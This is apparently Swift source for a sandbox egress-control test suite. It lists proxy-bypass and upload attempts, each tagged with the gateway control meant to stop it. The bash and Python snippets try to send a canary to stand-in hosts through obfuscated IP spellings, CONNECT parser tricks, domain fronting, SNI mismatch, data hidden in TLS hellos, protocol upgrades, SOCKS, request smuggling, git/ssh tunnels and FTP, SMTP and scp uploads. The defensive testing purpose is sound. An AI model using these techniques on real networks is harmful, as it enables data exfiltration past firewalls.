extension AttackTable {
  /// The egress proxy: foreign hosts, spellings, mismatched names, other protocols.
  static let proxy: [Attack] = [
    Attack(
      id: "connect-foreign", path: .tunnel, title: "hosts that nobody listed, through the proxy",
      closedBy: "listed host and port only (gateway)", provesControls: [.proxyAllowlist],
      tools: [.curl, .wget, .python],
      attempts: [
        Attempt(
          "curl and wget", tries: 6,
          .bash(
            #"""
            proxied "https://$ZONE/$CANARY"
            proxied "https://$CANARY.$ZONE/"
            proxied -H "X-Data: $CANARY" "http://$ZONE/"
            proxied --data "$CANARY" "http://$ZONE/"
            proxied -A "$CANARY" "http://$ZONE:8443/"
            https_proxy="$PROXY" try wget -q -t1 -T3 --no-check-certificate -O /dev/null "https://$ZONE/$CANARY"
            """#)),
        Attempt(
          "Python", tries: 2,
          .python(
            #"""
            import ssl, urllib.request
            def send(url):
                handler = urllib.request.ProxyHandler({"http": E["PROXY"], "https": E["PROXY"]})
                context = urllib.request.HTTPSHandler(context=ssl._create_unverified_context())
                urllib.request.build_opener(handler, context).open(url, data=CANARY.encode(), timeout=4)
            attempt(send, f"https://{ZONE}/")
            attempt(send, f"http://{ZONE}/")
            """#)),
      ]),
    Attack(
      id: "connect-address", path: .tunnel, title: "addresses instead of names, in every spelling",
      closedBy: "canonical listed names only (gateway)", tools: [.python],
      attempts: [
        Attempt(
          "CONNECT to 16 spellings", tries: 16,
          .python(
            #"""
            spellings = ["192.0.2.2:19555", "192.0.2.2.:19555", "127.0.0.1:19555", "[::1]:19555", "[fd00::2]:19555",
                         "[::ffff:192.0.2.2]:19555", "[::ffff:c000:202]:19555", "0xc0000202:19555",
                         "3221225986:19555", "0300.0.02.02:19555", "192.0.514:19555", "0xc0.0x0.0x2.0x2:19555",
                         "localhost:19555", "0:19555", "0.0.0.0:19555", "169.254.169.254:80"]
            def send(authority):
                sock, reply = connect(authority)
                sock.sendall(f"GET /{CANARY} HTTP/1.0\r\n\r\n".encode())
                listen(sock, 0.1)
            for authority in spellings:
                attempt(send, authority)
            """#)),
        Attempt(
          "plain requests", tries: 4,
          .python(
            #"""
            def send(authority):
                sock = proxy()
                sock.sendall(f"GET http://{authority}/{CANARY} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
                listen(sock, 0.3)
            for authority in ("192.0.2.2", "[fd00::2]", "3221225986", "127.0.0.1:19555"):
                attempt(send, authority)
            """#)),
      ]),
    Attack(
      id: "connect-other-port", path: .tunnel, title: "a listed host on a port that is not listed",
      closedBy: "host and port are one entry (gateway)", tools: [.python],
      attempts: [
        Attempt(
          "five ports", tries: 6,
          .python(
            #"""
            def send(port):
                sock, reply = connect(f"{E['ALLOWED_HOST']}:{port}")
                sock.sendall(CANARY.encode() + b"\r\n\r\n")
                listen(sock, 0.2)
            for port in (22, 25, 80, 443, 19555):
                attempt(send, port)
            def plain(target):
                sock = proxy()
                sock.sendall(f"GET http://{target}/{CANARY} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
                listen(sock, 0.5)
            attempt(plain, f"{E['ALLOWED_HOST']}:19555")
            """#))
      ]),
    Attack(
      id: "connect-parser-tricks", path: .tunnel, title: "request lines that two parsers read differently",
      closedBy: "canonical listed names only (gateway)", tools: [.python],
      attempts: [
        Attempt(
          "18 request lines", tries: 18,
          .python(
            #"""
            A, F = f"{E['ALLOWED_HOST']}:{E['ALLOWED_PORT']}", f"{ZONE}:443"
            lines = [f"CONNECT {A}@{F} HTTP/1.1", f"CONNECT {F}#{A} HTTP/1.1", f"CONNECT {F}?{A} HTTP/1.1",
                     f"CONNECT {F}/{A} HTTP/1.1", f"CONNECT {A}\0.{F} HTTP/1.1", f"CONNECT {F}\0{A} HTTP/1.1",
                     f"CONNECT {A} {F} HTTP/1.1", f"CONNECT\t{F}\tHTTP/1.1", f"CONNECT  {F} HTTP/1.1",
                     f"connect {F} HTTP/1.1", f"CONNECT {A},{F} HTTP/1.1", f"CONNECT http://{F} HTTP/1.1",
                     f"CONNECT {F} HTTP/1.1\r\nHost: {A}", f"CONNECT {F} HTTP/1.0", f"CONNECT {ZONE}%3a443 HTTP/1.1",
                     f"GET http://{A}@{ZONE}/{CANARY} HTTP/1.1\r\nHost: {A}",
                     f"GET /{CANARY} HTTP/1.1\r\nHost: {ZONE}", f"GET https://{ZONE}/{CANARY} HTTP/1.1\r\nHost: {A}"]
            def send(line):
                sock = proxy()
                host = "" if "Host:" in line else f"Host: {A}\r\n"
                sock.sendall(f"{line}\r\n{host}\r\n".encode("latin-1"))
                listen(sock, 0.3)
                sock.sendall(f"GET /{CANARY} HTTP/1.0\r\n\r\n".encode())
                listen(sock, 0.1)
            for line in lines:
                attempt(send, line)
            """#))
      ]),
    Attack(
      id: "sni-mismatch", path: .tunnel, title: "another server name in TLS than was asked for",
      closedBy: "server name must be the host asked for (gateway)", provesControls: [.sniCheck],
      needs: [.allowedHost], tools: [.python],
      attempts: [
        Attempt(
          "foreign, secret and missing server names", tries: 5,
          .python(
            #"""
            def send(name, host):
                sock, reply = connect(f"{E['ALLOWED_HOST']}:{E['ALLOWED_PORT']}")
                secure = tls(sock, name)
                secure.sendall(f"POST /{CANARY} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n".encode())
                listen(secure)
            allowed = f"{E['ALLOWED_HOST']}:{E['ALLOWED_PORT']}"
            for name, host in ((ZONE, allowed), (ZONE, ZONE), (None, allowed), (f"{CANARY}.{ZONE}", allowed),
                               (f"{CANARY}.{E['ALLOWED_HOST']}", allowed)):
                attempt(send, name, host)
            """#))
      ]),
    Attack(
      id: "host-mismatch", path: .tunnel,
      title: "domain fronting: a foreign host inside an allowed connection",
      closedBy: "host inside TLS must be the host asked for (gateway)", provesControls: [.hostCheck],
      needs: [.allowedHost], tools: [.python, .curl],
      attempts: [
        Attempt(
          "inside TLS", tries: 6,
          .python(
            #"""
            allowed = f"{E['ALLOWED_HOST']}:{E['ALLOWED_PORT']}"
            def send(requests):
                sock, reply = connect(allowed)
                secure = tls(sock, E["ALLOWED_HOST"])
                for request in requests:
                    secure.sendall(request.replace("\n", "\r\n").encode() + b"\r\n\r\n")
                    listen(secure)
            for requests in ([f"GET /{CANARY} HTTP/1.1\nHost: {ZONE}"],
                             [f"GET /{CANARY} HTTP/1.1\nHost: {allowed}\nHost: {ZONE}"],
                             [f"GET /{CANARY} HTTP/1.1\nHost: {ZONE}\nHost: {allowed}"],
                             [f"GET /{CANARY} HTTP/1.1\nAccept: */*"],
                             [f"GET https://{ZONE}/{CANARY} HTTP/1.1\nHost: {ZONE}"],
                             [f"GET / HTTP/1.1\nHost: {allowed}", f"GET /{CANARY} HTTP/1.1\nHost: {ZONE}"]):
                attempt(send, requests)
            """#)),
        Attempt(
          "with HTTP/2 offered", tries: 2,
          .bash(
            #"""
            for host in "$ZONE" "$CANARY.$ZONE"; do
              proxied --http2 -H "Host: $host" --data "$CANARY" "https://$ALLOWED_HOST:$ALLOWED_PORT/$CANARY"
            done
            """#)),
        Attempt(
          "in plain requests", tries: 3,
          .python(
            #"""
            target = f"http://{E['ALLOWED_HOST']}:{E['ALLOWED_PLAIN_PORT']}/"
            def send(text):
                sock = proxy()
                sock.sendall(text.replace("\n", "\r\n").encode() + b"\r\n\r\n")
                listen(sock)
            for text in (f"GET {target} HTTP/1.1\nHost: {CANARY}.{ZONE}",
                         f"GET {target} HTTP/1.1\nHost: {E['ALLOWED_HOST']}\nHost: {CANARY}.{ZONE}",
                         f"GET {target} HTTP/1.1\nHost: {E['ALLOWED_HOST']}@{CANARY}.{ZONE}"):
                attempt(send, text)
            """#)),
      ]),
    Attack(
      id: "direct-tls", path: .tunnel, title: "TLS to where listed hosts are found without the proxy",
      closedBy: "listed server name only, and the host inside must be it (gateway)",
      provesControls: [.proxyAllowlist, .hostCheck], needs: [.directHost], tools: [.python, .curl],
      attempts: [
        Attempt(
          "foreign, secret, missing and mismatched names", tries: 8,
          .python(
            #"""
            def send(name, host):
                secure = tls(dial(E["DIRECT_DOOR"], 443), name)
                secure.sendall(f"POST /{CANARY} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n".encode())
                listen(secure)
            listed = E["DIRECT_HOST"]
            for name, host in ((ZONE, ZONE), (ZONE, listed), (None, listed), (SINK, SINK), (f"{CANARY}.{ZONE}", ZONE),
                               (f"{CANARY}.{listed}", listed), (listed, ZONE), (listed, f"{CANARY}.{ZONE}")):
                attempt(send, name, host)
            """#)),
        Attempt(
          "no TLS, and TLS to the address itself", tries: 4,
          .bash(
            #"""
            direct --data "$CANARY" "http://$DIRECT_DOOR:443/"
            direct --data "$CANARY" "https://$DIRECT_DOOR/"
            direct --data "$CANARY" --connect-to "::$DIRECT_DOOR:443" "https://$ZONE/"
            direct --data "$CANARY" --connect-to "::$DIRECT_DOOR:443" -H "Host: $ZONE" "https://$DIRECT_HOST/"
            """#)),
      ]),
    Attack(
      id: "raw-after-connect", path: .tunnel, title: "something that is not TLS in an allowed tunnel",
      closedBy: "TLS first, before the host is called (gateway)", needs: [.allowedHost], tools: [.python],
      attempts: [
        Attempt(
          "text, SSH, HTTP, bytes", tries: 5,
          .python(
            #"""
            def send(first):
                sock, reply = connect(f"{E['ALLOWED_HOST']}:{E['ALLOWED_PORT']}")
                sock.sendall(first + CANARY.encode() + b"\r\n\r\n")
                listen(sock, 0.3)
            for first in (b"", b"SSH-2.0-", b"GET /", b"\0\1\2\3", b"\x16\3\1\0\x20\1"):
                attempt(send, first)
            """#))
      ]),
    Attack(
      id: "tls-hello-spare-bits", path: .tunnel, title: "secret in parts of a TLS hello that nobody needs",
      closedBy: "TLS ends in the gateway, which calls the host itself (gateway)", needs: [.allowedHost],
      tools: [.python],
      attempts: [
        Attempt(
          "encrypted hello, unknown extension, session, protocol name", tries: 4,
          .python(
            #"""
            def sized(data, bytes=2):
                return len(data).to_bytes(bytes, "big") + data
            def extension(kind, data):
                return kind.to_bytes(2, "big") + sized(data)
            def hello(session=b"", extra=b""):
                name = E["ALLOWED_HOST"].encode()
                known = (extension(0, sized(b"\0" + sized(name))) + extension(10, sized(b"\0\x1d\0\x17"))
                         + extension(11, b"\1\0") + extension(13, sized(b"\4\3\x08\4\4\1")))
                body = (b"\3\3" + os.urandom(32) + sized(session, 1) + sized(b"\xc0\x2b\xc0\x2f\xc0\x2c\xc0\x30")
                        + b"\1\0" + sized(known + extra))
                return b"\x16\3\1" + sized(b"\1" + sized(body, 3))
            def send(first):
                sock, reply = connect(f"{E['ALLOWED_HOST']}:{E['ALLOWED_PORT']}")
                sock.sendall(first)
                listen(sock, 0.3)
            secret = CANARY.encode()
            attempt(send, hello(extra=extension(0xFE0D, b"\0\0\1\0\1\7" + sized(secret) + sized(secret))))
            attempt(send, hello(extra=extension(0xABCD, secret)))
            attempt(send, hello(session=secret))
            attempt(send, hello(extra=extension(16, sized(sized(secret, 1)))))
            """#))
      ]),
    Attack(
      id: "upgrade", path: .tunnel, title: "WebSocket, h2c and UDP inside an HTTP connection",
      closedBy: "no upgrade, listed hosts only (gateway)", needs: [.allowedHost], tools: [.python],
      attempts: [
        Attempt(
          "six upgrades", tries: 6,
          .python(
            #"""
            def send(host, path, upgrade, extra=""):
                sock = proxy()
                sock.sendall((f"GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\n"
                              f"Upgrade: {upgrade}\r\n{extra}\r\n").encode())
                listen(sock, 0.4)
                sock.sendall(b"\x81\x18" + CANARY.encode())
                listen(sock, 0.1)
            key = "Sec-WebSocket-Key: ZHJpbGxkcmlsbGRyaWxsZA==\r\nSec-WebSocket-Version: 13\r\n"
            allowed = f"{E['ALLOWED_HOST']}:{E['ALLOWED_PLAIN_PORT']}"
            for host in (ZONE, allowed):
                attempt(send, host, "/socket", "websocket", key)
                attempt(send, host, "/", "h2c", "HTTP2-Settings: AAMAAABkAAQAAP__\r\n")
                attempt(send, host, f"/.well-known/masque/udp/{SINK}/19555/", "connect-udp", "Capsule-Protocol: ?1\r\n")
            """#))
      ]),
    Attack(
      id: "socks", path: .tunnel, title: "SOCKS spoken to the proxy's port",
      closedBy: "HTTP only, header deadline (gateway)", tools: [.curl],
      attempts: [
        Attempt(
          "SOCKS 4a and 5", tries: 3,
          .bash(
            #"""
            try curl -sSk -o /dev/null --max-time 3 --socks5-hostname "$PROXY_HOST:$PROXY_PORT" "http://$CANARY.$ZONE/"
            try curl -sSk -o /dev/null --max-time 3 --socks4a "$PROXY_HOST:$PROXY_PORT" "http://$ZONE/$CANARY"
            try curl -sSk -o /dev/null --max-time 3 --preproxy "socks5h://$PROXY_HOST:$PROXY_PORT" "https://$ZONE/$CANARY"
            """#))
      ]),
    Attack(
      id: "request-smuggling", path: .tunnel, title: "a second request hidden in the framing of a first",
      closedBy: "ambiguous framing refused (gateway)", needs: [.allowedHost], tools: [.python],
      attempts: [
        Attempt(
          "ten framings", tries: 10,
          .python(
            #"""
            host = f"{E['ALLOWED_HOST']}:{E['ALLOWED_PLAIN_PORT']}"
            hidden = f"GET http://{ZONE}/{CANARY} HTTP/1.1\r\nHost: {ZONE}\r\n\r\n"
            chunk = f"{len(hidden):x}\r\n{hidden}\r\n0\r\n\r\n"
            first = f"POST http://{host}/ HTTP/1.1\r\nHost: {host}\r\n"
            forms = [first + f"Content-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
                     first + f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{chunk}",
                     first + f"Transfer-Encoding: xchunked\r\nContent-Length: {len(chunk)}\r\n\r\n{chunk}",
                     first + f"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n{chunk}",
                     first + f"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n{chunk}",
                     first + f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
                     first + f"Content-Length: +{len(hidden)}\r\n\r\n{hidden}",
                     first + f"Content-Length: 0x{len(hidden):x}\r\n\r\n{hidden}",
                     first + f"X: y\n\n{hidden}",
                     first + f"Transfer-Encoding: chunked\r\n\r\n0\r\nX-Data: {CANARY}\r\n\r\n"]
            def send(text):
                sock = proxy()
                sock.sendall(text.encode())
                listen(sock, 0.5)
            for text in forms:
                attempt(send, text)
            """#))
      ]),
    Attack(
      id: "git-and-ssh", path: .tunnel, title: "git over https, git and ssh; ssh through the proxy",
      closedBy: "listed host and port only (gateway), own network namespace (kernel)",
      tools: [.git, .ssh, .python],
      attempts: [
        Attempt(
          "git remotes", tries: 4,
          .bash(
            #"""
            export GIT_TERMINAL_PROMPT=0 GIT_SSL_NO_VERIFY=1 GIT_CONFIG_NOSYSTEM=1
            try() { timeout -k 1 2 "$@" </dev/null; }
            try git -c http.proxy="$PROXY" ls-remote "https://$ZONE/$CANARY.git"
            try git ls-remote "git://$ZONE/$CANARY.git"
            try git ls-remote "git://$SINK/$CANARY.git"
            GIT_SSH_COMMAND="ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no" \
              try git ls-remote "ssh://git@$CANARY.$ZONE/data.git"
            """#)),
        Attempt(
          "ssh in a tunnel", tries: 2,
          .bash(
            #"""
            tunnel='import os, socket, sys
            s = socket.create_connection((os.environ["PROXY_HOST"], int(os.environ["PROXY_PORT"])), 3)
            s.sendall(f"CONNECT {sys.argv[1]} HTTP/1.1\r\nHost: {sys.argv[1]}\r\n\r\n".encode())
            s.settimeout(1)
            print(s.recv(999)[:40], file=sys.stderr)
            s.sendall(b"SSH-2.0-" + os.environ["CANARY"].encode() + b"\r\n")
            s.recv(999)'
            try python3 -c "$tunnel" "$ZONE:22"
            try python3 -c "$tunnel" "$ZONE:443"
            """#)),
      ]),
  ]

  /// Uploads that need no browser.
  static let upload: [Attack] = [
    Attack(
      id: "http-upload", path: .externalUpload, title: "a file sent to a web server, without a browser",
      closedBy: "listed host and port only (gateway)", provesControls: [.proxyAllowlist],
      tools: [.curl, .wget],
      attempts: [
        Attempt(
          "form, PUT and POST", tries: 6,
          .bash(
            #"""
            file=$(mktemp) && printf 'id,value\n1,%s\n' "$CANARY" > "$file"
            proxied -F "file=@$file" "https://$ZONE/upload"
            proxied -T "$file" "https://$ZONE/data.csv"
            proxied -T "$file" "http://$ZONE/data.csv"
            proxied --data-urlencode "data@$file" "http://$ZONE/paste"
            direct -T "$file" "http://$SINK/data.csv"
            http_proxy="$PROXY" try wget -q -t1 -T3 -O /dev/null --post-file="$file" "http://$ZONE/upload"
            rm -f "$file"
            """#))
      ]),
    Attack(
      id: "mail-and-ftp", path: .externalUpload, title: "a file sent by mail, FTP or scp",
      closedBy: "own network namespace (kernel), HTTP only (gateway)", tools: [.curl, .ssh],
      attempts: [
        Attempt(
          "mail, FTP, scp", tries: 5,
          .bash(
            #"""
            file=$(mktemp) && printf '%s\n' "$CANARY" > "$file"
            direct -T "$file" "ftp://$SINK/$CANARY"
            proxied -T "$file" "ftp://$ZONE/$CANARY"
            direct --mail-from "a@$ZONE" --mail-rcpt "b@$ZONE" -T "$file" "smtp://$SINK/$CANARY"
            proxied -p --mail-from "a@$ZONE" --mail-rcpt "b@$ZONE" -T "$file" "smtp://$ZONE/$CANARY"
            timeout 2 scp -q -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no "$file" "drill@$SINK:/tmp/x" </dev/null
            rm -f "$file"
            """#))
      ]),
  ]
}
